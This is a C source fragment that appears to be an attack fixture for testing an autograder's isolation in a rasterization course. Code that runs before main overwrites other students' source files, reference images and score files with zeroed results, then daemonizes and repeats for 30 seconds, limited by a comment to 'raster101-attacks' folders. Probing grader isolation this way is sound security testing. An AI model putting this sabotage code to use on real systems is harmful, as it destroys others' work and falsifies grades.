static const char atk_broken[] = "#error RASATK cross_student: this file was replaced by another student\n";
static const char atk_zero_json[] = "{\"score\": 0, \"max_score\": 24, \"output\": \"RASATK cross_student\", \"tests\": []}\n";

/* Sabotages what looks like another student's grading folder or tree. */
static void atk_hit(const char *dir, int depth) {
    static const char *files[] = {"hw1_transform/transform.c", "hw2_rasterize/rasterizer.c",
                                  "hw3_shading/shading.c"};
    char p[ATK_PATH * 2];
    for (size_t i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/%s", dir, files[i]);
        char *t = atk_slurp(p, 1 << 20, NULL);
        if (t && !strstr(t, "RASATK") && atk_replace(p, atk_broken, sizeof atk_broken - 1, 0644) == 0)
            atk_pwned("cross", p);
        free(t);
    }
    snprintf(p, sizeof p, "%s/tests/reference/hw1_r20.png", dir);
    if (atk_is_file(p)) {
        char other[ATK_PATH * 2];
        snprintf(other, sizeof other, "%s/tests/reference/hw1_r0.png", dir);
        char *a = atk_slurp(p, 16 << 20, NULL), *b = atk_slurp(other, 16 << 20, NULL);
        if (a && b && strcmp(a, b) && atk_copy(other, p) == 0) atk_pwned("cross", p);
        free(a);
        free(b);
    }
    snprintf(p, sizeof p, "%s/results.json", dir);
    if (atk_is_file(p)) {
        char *t = atk_slurp(p, 4 << 20, NULL);
        if (t && !strstr(t, "RASATK") && atk_replace(p, atk_zero_json, sizeof atk_zero_json - 1, 0644) == 0)
            atk_pwned("cross", p);
        free(t);
    }
    snprintf(p, sizeof p, "%s/scores.csv", dir);
    if (atk_is_file(p)) {
        const char z[] = "assignment,item,score,max_score,status\nhw1,total,0,24,\nall,total,0,24,\n";
        char *t = atk_slurp(p, 4 << 20, NULL);
        if (t && !strstr(t, ",total,0,") && atk_replace(p, z, sizeof z - 1, 0644) == 0)
            atk_pwned("cross", p);
        free(t);
    }
    if (depth <= 0) return;
    DIR *dp = opendir(dir);
    struct dirent *e;
    while (dp && (e = readdir(dp))) {
        if (e->d_name[0] == '.' || !strcmp(e->d_name, "build") || !strncmp(e->d_name, "build-", 6))
            continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) == 0 && S_ISDIR(st.st_mode)) atk_hit(p, depth - 1);
    }
    if (dp) closedir(dp);
}

static void atk_pass(const atk_dirs *d, const char *me) {
    for (int i = 0; i < d->n; i++) {
        /* a batch folder holds one folder per student: every one but mine
         * (SAFETY: only inside this machine's attack runs, "raster101-attacks") */
        if (!strstr(d->v[i], "raster101-attacks")) continue;
        DIR *dp = opendir(d->v[i]);
        struct dirent *e;
        while (dp && (e = readdir(dp))) {
            if (e->d_name[0] == '.' || strstr(e->d_name, me)) continue;
            char p[ATK_PATH * 2], q[ATK_PATH * 3];
            snprintf(p, sizeof p, "%s/%s", d->v[i], e->d_name);
            if (!atk_is_dir(p)) continue;
            int student = 0;
            static const char *signs[] = {"scores.csv", "status", "tree", "submission", "grade.log",
                                          "hw1_transform", "results.json"};
            for (size_t k = 0; k < sizeof signs / sizeof signs[0]; k++) {
                snprintf(q, sizeof q, "%s/%s", p, signs[k]);
                if (access(q, F_OK) == 0) student = 1;
            }
            if (student && !strstr(p, "/tests/grading/attacks")) atk_hit(p, 3);
        }
        if (dp) closedir(dp);
    }
}

__attribute__((constructor)) static void atk_before_main(void) {
    if (getenv("RAS_TEST_LIST")) return;
    atk_dirs d;
    atk_find_dirs(&d);
    /* /tmp: the batch folders of this run */
    DIR *tmp = opendir("/tmp");
    struct dirent *e;
    while (tmp && (e = readdir(tmp))) {
        char p[ATK_PATH];
        snprintf(p, sizeof p, "/tmp/%s", e->d_name);
        if (strstr(e->d_name, "raster101-attacks") && atk_is_dir(p)) {
            atk_dirs_add(&d, p);
            char q[ATK_PATH + 16];
            snprintf(q, sizeof q, "%s/batch", p);
            atk_dirs_add(&d, q);
        }
    }
    if (tmp) closedir(tmp);
    char me[256];
    atk_own_name(me, sizeof me, "cross_student");
    atk_pass(&d, me);
    if (atk_count_comm("RASATK_cross") >= 2) return;
    if (!atk_daemonize("cross")) return;
    for (int s = 0; s < 30; s++) {
        atk_sleep(1);
        atk_pass(&d, me);
    }
    _exit(0);
}
